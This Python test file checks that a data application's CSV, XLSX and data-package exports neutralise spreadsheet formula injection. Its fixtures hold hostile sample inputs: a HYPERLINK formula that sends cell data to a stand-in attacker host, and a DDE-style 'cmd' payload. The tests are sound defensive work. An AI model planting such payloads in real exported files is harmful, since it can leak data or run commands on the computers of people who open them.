"""Text typed through the write functions that a spreadsheet would run as a formula comes out
neutralised in every file a spreadsheet may open, from every door: the CLI's `export` (what
`exports.write` writes, for each table and format), the Tables page's downloads and the API's
CSV, the data package's CSVs included. GeoJSON is JSON, which no spreadsheet runs, and gives
the text as typed (as the API's JSON does)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from inventory import exports, opendata, table_page, writes
from inventory.columns import TABLES
from inventory.database import session_scope
from inventory.filters import Filters
from tests.world import TODAY, World, build_world

DANGEROUS = (
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def world(engine: Engine) -> World:
    world = build_world(engine)
    cli = writes.Actor.command_line()
    for n, text in enumerate(DANGEROUS):
        organisation = writes.add_organisation(engine, cli, f"evil-{n}", text, "ngo", clock=world.clock)
        added = writes.add_facility(
            engine,
            world.actor("admin"),
            writes.NewFacility(
                municipality_code="GM0363",
                label=f"{text} {n}",
                shelter_form="specialised_night",
                operator_id=organisation,
                note=text,
            ),
            clock=world.clock,
        )
        subject = writes.Subject.facility(added.facility_id)
        writes.save_figures(
            engine,
            world.actor("ams"),
            subject,
            [writes.FigureInput("places", 40), writes.FigureInput("persons", 45)],
            reference_date=TODAY,
            how_obtained="counted",
            note=text,
            explanation=text,
            seen_version=world.version(subject),
            clock=world.clock,
        )
    return world


def csv_dangers(body: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(STARTS)]


def xlsx_dangers(body: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(body))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(STARTS))
    ]


def zip_dangers(body: bytes) -> dict[str, list[str]]:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        names = [n for n in archive.namelist() if n.endswith(".csv")]
        assert "data/sources.csv" in names  # every package holds its sources
        found = {name: csv_dangers(archive.read(name)) for name in names}
    return {name: cells for name, cells in found.items() if cells}


def dangers(fmt: str, body: bytes) -> object:
    if fmt == "csv":
        return csv_dangers(body)
    if fmt == "xlsx":
        return xlsx_dangers(body)
    return zip_dangers(body)


def test_the_typed_text_reaches_the_exports(world: World) -> None:
    # Else the scans below could pass on files that never held the text.
    with session_scope(world.engine) as session:
        body = exports.figures_csv_bytes(session, Filters(), "en")
    text = body.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "'+1+cmd|" in text and "'@SUM(1)" in text and "'-2+3" in text


@pytest.mark.parametrize(
    ("fmt", "table"),
    # The CLI refuses a data package of another table: its package is the figures' one.
    [*((fmt, table) for fmt in ("csv", "xlsx") for table in TABLES), ("datapackage", "figures")],
)
def test_the_cli_export_has_no_formula_cell(world: World, tmp_path: Path, table: str, fmt: str) -> None:
    out = tmp_path / ("package.zip" if fmt == "datapackage" else f"{table}.{fmt}")
    with session_scope(world.engine) as session:
        written, _ = exports.write(session, fmt, out, Filters(), "nl", None, table)
    assert not dangers(fmt, written.read_bytes())


def test_the_cli_package_into_a_folder_has_no_formula_cell(world: World, tmp_path: Path) -> None:
    out = tmp_path / "package"
    out.mkdir()
    with session_scope(world.engine) as session:
        written, _ = exports.write(session, "datapackage", out, Filters(), "nl")
    files = sorted(written.rglob("*.csv"))
    assert {"figures.csv", "sources.csv"} <= {f.name for f in files}
    assert {f.name: cells for f in files if (cells := csv_dangers(f.read_bytes()))} == {}


@pytest.mark.parametrize("table", TABLES)
@pytest.mark.parametrize("lang", ["nl", "en"])
def test_the_table_page_downloads_have_no_formula_cell(world: World, table: str, lang: str) -> None:
    with session_scope(world.engine) as session:
        export = exports.table_export(session, table, Filters(), lang)
    for download in table_page.downloads(world.engine, export):
        fmt = {"csv": "csv", "xlsx": "xlsx", "zip": "datapackage"}[download.ext]
        assert not dangers(fmt, download.build()), (table, download.ext)


@pytest.mark.parametrize("table", TABLES)
def test_the_api_csv_has_no_formula_cell(world: World, table: str) -> None:
    with session_scope(world.engine) as session:
        body = b"".join(opendata.csv_stream(session, table, Filters(), "nl"))
    assert not csv_dangers(body)


def test_the_figures_package_counts_no_dangerous_cell(world: World) -> None:
    with session_scope(world.engine) as session:
        export = exports.table_export(session, "facilities", Filters(), "nl")
    downloads = {d.ext: d for d in table_page.downloads(world.engine, export)}
    assert zip_dangers(downloads["zip"].build()) == {}
